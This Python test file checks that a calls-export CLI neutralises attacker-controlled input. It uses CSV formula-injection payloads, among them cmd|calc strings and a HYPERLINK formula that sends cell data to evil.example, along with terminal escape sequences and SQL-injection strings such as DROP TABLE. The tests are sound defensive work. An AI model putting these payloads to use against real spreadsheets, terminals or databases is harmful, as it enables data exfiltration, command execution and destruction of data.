"""The calls CLI against hostile input: file names and extracted fields an attacker controls, and bad filters.

A caller chooses what is said on a call (so the extracted fields), and whoever drops a recording chooses its file
name. None of it may run in a spreadsheet (CSV formula injection), drive a terminal (escape sequences), or
change an SQL statement (`--where`). Each test runs the real command against a real SQLite or PostgreSQL store.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from aoai_gateway.calls.cli import open_store
from aoai_gateway.calls.errors import QueryError
from aoai_gateway.calls.sources import SourceItem
from aoai_gateway.cli import main
from aoai_gateway.config import Settings, load_settings

from .conftest import SPEECH_AUDIO, CallsConfigFactory, write_config

# A window-title change, BEL, clear-screen, an 8-bit CSI, a right-to-left override and a zero-width space.
TERMINAL_ATTACK = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil\u200b"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u200b")
FORMULAS = {
    "company": "=cmd|' /C calc'!A0",
    "customer_name": "+SUM(1+1)*cmd|' /C calc'!A0",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "timeline": "-2+3+cmd|' /C calc'!A0",
    "next_steps": "\t=1+1",
    "summary": "\r=1+1",
    "sentiment": "\uff1d1+1",  # a full-width equals sign
    "products_of_interest": ['=HYPERLINK("http://evil.example/?"&A1,"click")', "solar panels"],
    "budget": -3,  # a number: stays one
}


async def store_call(settings: Settings, call_id: str, name: str, fields: dict[str, Any]) -> None:
    """A done call as the pipeline would leave it, with these fields, straight into the store."""
    store = await open_store(settings)
    try:
        item = SourceItem(uri=f"/recordings/{name}", name=name, size=1, version="1", modified=time.time())
        assert (await store.claim(call_id, item, max_attempts=3)).won
        document = {
            "id": call_id,
            "source": {"uri": item.uri, "name": name},
            "fields": fields,
            "transcript": f"Hello {fields.get('company')}",
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
        }
        assert await store.complete(call_id, document)
    finally:
        await store.db.close()


def config_for(tmp_path: Path, database_url: str | None = None) -> Path:
    calls = {"database_url": database_url} if database_url else {}
    return write_config(tmp_path / "config.yaml", {"data_dir": str(tmp_path), "calls": calls})


def assert_no_raw_controls(text: str) -> None:
    leaked = [repr(c) for c in RAW if c in text]
    assert not leaked, f"raw {', '.join(leaked)} reached the output: {text!r}"


# -- CSV formula injection


async def test_csv_export_neutralises_every_formula_and_keeps_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = config_for(tmp_path)
    settings = load_settings(config, {})
    await store_call(settings, "a" * 64, "=1+1.wav", FORMULAS)
    await store_call(settings, "b" * 64, "plain.wav", {"company": "Acme", "budget": "-5 percent"})

    out = tmp_path / "calls.csv"
    assert await _main(["calls", "export", "--format", "csv", "-o", str(out), "--config", str(config)]) == 0
    with out.open(newline="") as file:
        rows = list(csv.reader(file))
    head, hostile, plain = rows[0], dict(zip(rows[0], rows[1], strict=True)), dict(zip(rows[0], rows[2], strict=True))
    for cell in [*head, *hostile.values(), *plain.values()]:
        # Only the real number may start like a formula.
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) or cell == "-3", cell
    assert hostile["company"] == "'=cmd|' /C calc'!A0"
    assert hostile["next_steps"] == "'\t=1+1" and hostile["summary"] == "'\r=1+1"
    assert hostile["products_of_interest"].startswith("'=HYPERLINK(")
    assert hostile["name"] == "'=1+1.wav"
    assert hostile["budget"] == "-3"  # a numeric value is a number, not a formula
    assert plain["budget"] == "'-5 percent"  # text that looks like a number is still text

    # The same rows on standard output.
    assert await _main(["calls", "export", "--format", "csv", "--config", str(config)]) == 0
    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == rows


def test_usage_csv_goes_through_the_same_guard() -> None:
    from aoai_gateway.access.cli import render

    rendered = render([{"key": "=cmd|' /C calc'!A0", "requests": 3, "cost": -1.5}], "csv")
    assert list(csv.reader(io.StringIO(rendered))) == [
        ["key", "requests", "cost"],
        ["'=cmd|' /C calc'!A0", "3", "-1.5"],
    ]


# -- terminals


def test_escape_sequences_from_file_names_and_fields_never_reach_the_terminal(
    calls_config: CallsConfigFactory,
    tmp_path: Path,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "caller-key")
    folder = tmp_path / "recordings"
    folder.mkdir()
    shutil.copy(SPEECH_AUDIO / "weather.mp3", folder / f"call{TERMINAL_ATTACK}.mp3")
    # Extraction never gives a valid answer: the call fails, and the summary names its file.
    config = write_config(tmp_path / "config.yaml", calls_config("extract-garbage"))
    assert main(["calls", "process", str(folder), "--config", str(config)]) == 1
    printed = capfd.readouterr()
    assert "failed: call\\x1b]0;pwned\\x07" in printed.out
    assert_no_raw_controls(printed.out + printed.err)

    asyncio.run(store_call(load_settings(config, {}), "c" * 64, "fields.wav", {"company": TERMINAL_ATTACK}))

    for command in (
        ["calls", "list"],
        ["calls", "list", "--format", "json"],
        ["calls", "list", "--status", "failed"],
        ["calls", "show", "c" * 12],
        ["calls", "show", "c" * 12, "--format", "json"],
        ["calls", "export", "--format", "jsonl"],
    ):
        main([*command, "--config", str(config)])
        printed = capfd.readouterr()
        assert_no_raw_controls(printed.out + printed.err)
        assert "pwned" in printed.out, command  # shown, escaped
    # Escaped JSON is still the same value.
    main(["calls", "show", "c" * 12, "--format", "json", "--config", str(config)])
    assert json.loads(capfd.readouterr().out)["fields"]["company"] == TERMINAL_ATTACK
    main(["calls", "list", "--format", "json", "--config", str(config)])
    listed = [json.loads(line) for line in capfd.readouterr().out.splitlines()]
    assert {r["name"] for r in listed} == {f"call{TERMINAL_ATTACK}.mp3", "fields.wav"}
    # A hostile id prefix is quoted escaped in the error, and no LIKE wildcard matches every call.
    assert main(["calls", "show", f"%{TERMINAL_ATTACK}", "--config", str(config)]) == 1
    assert main(["calls", "show", "%", "--config", str(config)]) == 1
    err = capfd.readouterr().err
    assert "no call matches '%'" in err
    assert_no_raw_controls(err)


def test_a_reader_that_leaves_early_gets_no_traceback(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "aoai_gateway.cli", "calls", "list", "--config", str(config_for(tmp_path))]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout is not None
    process.stdout.close()  # `| head -0`: gone before the first byte is written
    _, err = process.communicate(timeout=60)
    assert err == b"" and process.returncode == 141


# -- --where: names and values that try to change the statement


HOSTILE_NAMES = [
    'company") OR 1=1 --',
    "company' OR '1'='1",
    'company"',
    "company; DROP TABLE calls; --",
    "$.company",
    "company[0]",
    "comp\x00any",
    f"company{TERMINAL_ATTACK}",
    "",
]
HOSTILE_VALUES = ["' OR '1'='1", '") OR 1=1 --', "%", "_", "Acme%", "acme ltd'); DROP TABLE calls; --"]


@pytest.fixture(params=["sqlite", "postgresql"])
def store_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'calls.db'}"
    url: str = request.getfixturevalue("postgres_url")
    return url


async def test_where_refuses_hostile_field_names_and_binds_hostile_values(
    store_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = config_for(tmp_path, store_url)
    settings = load_settings(config, {})
    store = await open_store(settings)
    try:
        await store.db.execute("DELETE FROM calls")  # the PostgreSQL database is the session's
    finally:
        await store.db.close()
    await store_call(settings, "d" * 64, "acme.wav", {"company": "Acme Ltd", "products_of_interest": ["battery"]})
    await store_call(settings, "e" * 64, "other.wav", {"company": "Initech", "products_of_interest": []})

    for name in HOSTILE_NAMES:
        status = await _main(["calls", "list", "--where", f"{name}=1", "--config", str(config)])
        err = capsys.readouterr().err
        assert status == 2, (name, err)
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
        assert_no_raw_controls(err)
    assert "no field 'nope' in the schema" in await _error(["--where", "nope=1"], config, capsys)
    assert "expected FIELD=VALUE" in await _error(["--where", "company"], config, capsys)
    assert "NUL characters" in await _error(["--where", "company=a\x00b"], config, capsys)

    # Past the CLI, the store itself refuses such names (a program calling it directly).
    store = await open_store(settings)
    try:
        for name in HOSTILE_NAMES:
            with pytest.raises(QueryError):
                await store.query(where=[(name, "1")])
        # Values are bound: they match literally (case-insensitively) or not at all, wildcards included.
        for value in HOSTILE_VALUES:
            assert await store.query(where=[("company", value)]) == []
        assert [r.name for r in await store.query(where=[("company", "ACME LTD")])] == ["acme.wav"]
        assert [r.name for r in await store.query(where=[("products_of_interest", "Battery")])] == ["acme.wav"]
        assert len(await store.query()) == 2  # and the table is still there
    finally:
        await store.db.close()


async def _main(argv: list[str]) -> int:
    return await asyncio.to_thread(main, argv)  # the command runs its own event loop


async def _error(args: list[str], config: Path, capsys: pytest.CaptureFixture[str]) -> str:
    assert await _main(["calls", "list", *args, "--config", str(config)]) == 2
    return capsys.readouterr().err
